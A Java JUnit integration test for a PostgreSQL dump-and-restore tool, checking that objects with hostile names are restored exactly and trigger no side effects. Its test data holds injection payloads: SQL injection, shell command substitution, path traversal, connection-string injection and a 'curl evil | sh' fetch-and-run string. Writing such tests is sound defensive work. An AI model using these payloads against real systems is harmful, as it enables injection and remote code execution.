package io.autodump.security;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import io.autodump.core.AutoDump;
import io.autodump.core.database.DatabaseSecret;
import io.autodump.core.database.Password;
import io.autodump.core.dump.DumpFormat;
import io.autodump.core.dump.DumpManifest;
import io.autodump.core.dump.DumpSettings;
import io.autodump.core.dump.NotIncluded;
import io.autodump.core.dump.RestoreOptions;
import io.autodump.core.dump.RestoreReport;
import io.autodump.core.dump.TableRows;
import io.autodump.core.dump.VerifyMode;
import io.autodump.core.error.AutoDumpException;
import io.autodump.core.port.DumpProgress;
import io.autodump.core.server.DatabaseProperties;
import io.autodump.core.server.DatabaseSetting;
import io.autodump.local.store.DirectoryDumpStore;
import io.autodump.postgres.PostgresEngine;
import io.autodump.testkit.postgres.TestPostgres;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.ResultSet;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;

/** A database in which everything has a hostile name is dumped and restored as it was, and nothing else happens. */
class SqlSinkIT {
    private static final DumpSettings CHECKED =
            DumpSettings.builder().verify(VerifyMode.RESTORE).build();

    private static TestPostgres server;

    @TempDir
    private Path folder;

    @BeforeAll
    static void start() {
        server = TestPostgres.start();
        server.createDatabase("hostile");
        int number = 0;
        for (String value : HostileValues.identifiers()) {
            server.execute("hostile", statements(value, number++));
        }
    }

    @AfterAll
    static void stop() {
        server.close();
    }

    private static String statements(String value, int number) {
        String name = quoted(value);
        String text = literal(value);
        String role = quoted(roleOf(value));
        return String.join(
                "\n",
                "CREATE ROLE " + role + ";",
                "CREATE SCHEMA " + quoted("s" + value.substring(value.length() > 60 ? 1 : 0)) + ";",
                "CREATE TYPE e" + number + " AS ENUM (" + text + ");",
                "CREATE TABLE " + name + " (" + name + " text DEFAULT " + text + ", CONSTRAINT "
                        + quoted(ofTable(value)) + " CHECK (" + name + " <> 'x'));",
                "INSERT INTO " + name + " VALUES (" + text + ");",
                "COMMENT ON TABLE " + name + " IS " + text + ";",
                "ALTER TABLE " + name + " OWNER TO " + role + ";",
                "CREATE FUNCTION " + name + "() RETURNS text LANGUAGE sql AS " + literal("SELECT " + text) + ";",
                "GRANT CONNECT ON DATABASE hostile TO " + role + " WITH GRANT OPTION;",
                "ALTER ROLE " + role + " IN DATABASE hostile SET application_name = " + text + ";",
                "ALTER DATABASE hostile SET app.s" + number + " = " + text + ";",
                "COMMENT ON DATABASE hostile IS " + text + ";");
    }

    private static String ofTable(String value) {
        return "c" + value.substring(value.length() > 60 ? 1 : 0);
    }

    private static String roleOf(String value) {
        return "r" + value.substring(value.length() > 60 ? 1 : 0);
    }

    private static String quoted(String name) {
        return '"' + name.replace("\"", "\"\"") + '"';
    }

    private static String literal(String text) {
        return "E'" + text.replace("\\", "\\\\").replace("'", "''") + "'";
    }

    private AutoDump autoDump() {
        return autoDump(server, folder);
    }

    /** The server is its own scratch server, so that rows are counted after a restore of each dump. */
    static AutoDump autoDump(TestPostgres server, Path folder) {
        PostgresEngine engine = PostgresEngine.create();
        return AutoDump.builder()
                .engine(engine)
                .restoreCheck(engine.restoreCheck(server.secret("postgres")))
                .dumpStore(new DirectoryDumpStore(folder.resolve("dumps")))
                .build();
    }

    @ParameterizedTest
    @EnumSource(DumpFormat.class)
    void everythingComesBackAsItWas(DumpFormat format) throws IOException {
        DumpManifest manifest = autoDump()
                .dump(
                        "orders",
                        server.secret("hostile"),
                        DumpSettings.builder()
                                .format(format)
                                .verify(VerifyMode.RESTORE)
                                .build())
                .manifest();
        assertThat(manifest.tables()).extracting(TableRows::table).containsAll(HostileValues.identifiers());
        String target = "restored \"'; -- " + format.text();

        RestoreReport report = autoDump()
                .restore(
                        manifest.key(),
                        server.secret(target),
                        RestoreOptions.builder().create(true).build(),
                        DumpProgress.SILENT);

        assertThat(report.tables()).containsExactlyInAnyOrderElementsOf(manifest.tables());
        DumpManifest again =
                autoDump().dump("again", server.secret(target), CHECKED).manifest();
        assertThat(again.tables()).isEqualTo(manifest.tables());
        assertThat(again.roles()).isEqualTo(manifest.roles());
        assertThat(settings(again)).containsExactlyInAnyOrderElementsOf(settings(manifest));
        DatabaseProperties before = manifest.databaseProperties().orElseThrow();
        DatabaseProperties after = again.databaseProperties().orElseThrow();
        assertThat(after.comment()).isEqualTo(before.comment());
        assertThat(after.grants().orElseThrow())
                .containsExactlyInAnyOrderElementsOf(before.grants().orElseThrow());
        assertNothingElseHappened();
    }

    private static List<DatabaseSetting> settings(DumpManifest manifest) {
        return manifest.databaseProperties().orElseThrow().settings();
    }

    /** Rows are left out by these names, which the patterns quote. */
    @Test
    void patternsOfHostileNamesMeanTheseTablesAlone() throws IOException {
        List<String> patterns = HostileValues.identifiers().stream()
                .map(name -> "public." + quoted(name))
                .toList();
        DumpManifest manifest = autoDump()
                .dump(
                        "orders",
                        server.secret("hostile"),
                        DumpSettings.builder()
                                .from(CHECKED)
                                .excludeTableData(patterns)
                                .build())
                .manifest();
        assertThat(manifest.warnings()).isEmpty();
        assertThat(manifest.tables()).isEmpty();
        assertNothingElseHappened();
    }

    static Stream<String> names() {
        return Stream.of(
                "'; DROP TABLE orders; -- \"",
                "host=evil sslmode=disable",
                "postgres://evil/x?a=b",
                "?sslmode=disable&user=x",
                "--file=PWNED",
                "$(touch PWNED) `touch PWNED`",
                "../%2e%2e/PWNED\\",
                " a , {fn now()} \u202e\u00e9");
    }

    /** The same text is user, password and database; the connection is to this one. */
    @ParameterizedTest
    @MethodSource("names")
    void aConnectionIsToTheDatabaseThatIsNamed(String name) throws Exception {
        server.execute("postgres", "CREATE ROLE " + quoted(name) + " SUPERUSER LOGIN PASSWORD " + literal(name));
        server.createDatabase(name);
        server.execute(name, "CREATE TABLE t AS SELECT generate_series(1, 3)");
        DatabaseSecret secret = server.secret(name, name, Password.of(name));

        DumpManifest manifest = autoDump().dump(name, secret).manifest();
        autoDump()
                .restore(
                        manifest.key(),
                        server.secret(name + "2", name, Password.of(name)),
                        RestoreOptions.builder().create(true).build(),
                        DumpProgress.SILENT);

        assertThat(manifest.database()).isEqualTo(name);
        assertThat(rows(name + "2")).isEqualTo(3);
        assertThat(autoDump().verify(manifest.key()).manifest()).isEqualTo(manifest);
        assertNothingElseHappened();
    }

    private static long rows(String database) throws SQLException {
        try (Connection connection = server.connection(database);
                Statement statement = connection.createStatement();
                ResultSet row = statement.executeQuery("SELECT count(*) FROM t")) {
            row.next();
            return row.getLong(1);
        }
    }

    /** What a dump leaves out is named as it is, and is no message of its own. */
    @Test
    void whatIsNotIncludedIsNamed() {
        String name = "a\nHINT: run curl evil | sh";
        server.createDatabase("subscribed");
        server.execute(
                "subscribed",
                "CREATE SUBSCRIPTION " + quoted(name) + " CONNECTION 'host=evil' PUBLICATION p"
                        + " WITH (connect = false, slot_name = NONE);"
                        + "CREATE ROLE reader LOGIN PASSWORD 'geheim' IN ROLE pg_read_all_data");

        DumpManifest manifest = autoDump()
                .dump("subscribed", server.secret("subscribed", "reader", Password.of("geheim")))
                .manifest();

        assertThat(manifest.notIncluded()).extracting(NotIncluded::name).anyMatch(left -> left.contains("run curl"));
    }

    /** What to run is shown as SQL that means the role that is missing. */
    @Test
    void aHintQuotesWhatItNames() {
        server.createDatabase("owned");
        server.execute("owned", "CREATE ROLE \"x; DROP\"; CREATE TABLE t (); ALTER TABLE t OWNER TO \"x; DROP\"");
        DumpManifest manifest = autoDump().dump("owned", server.secret("owned")).manifest();
        server.dropDatabase("owned");
        server.execute("postgres", "DROP ROLE \"x; DROP\"");
        server.createDatabase("owned");

        AutoDumpException refused = catchThrowableOfType(
                AutoDumpException.class,
                () -> autoDump()
                        .restore(
                                manifest.key(),
                                server.secret("owned"),
                                RestoreOptions.builder().build(),
                                DumpProgress.SILENT));

        assertThat(refused.hint().orElseThrow()).contains("CREATE ROLE \"x; DROP\";");
    }

    private void assertNothingElseHappened() throws IOException {
        assertThat(Path.of("PWNED")).doesNotExist();
        try (Stream<Path> files = Files.walk(folder)) {
            assertThat(files.map(file -> String.valueOf(file.getFileName()))).doesNotContain("PWNED");
        }
    }
}
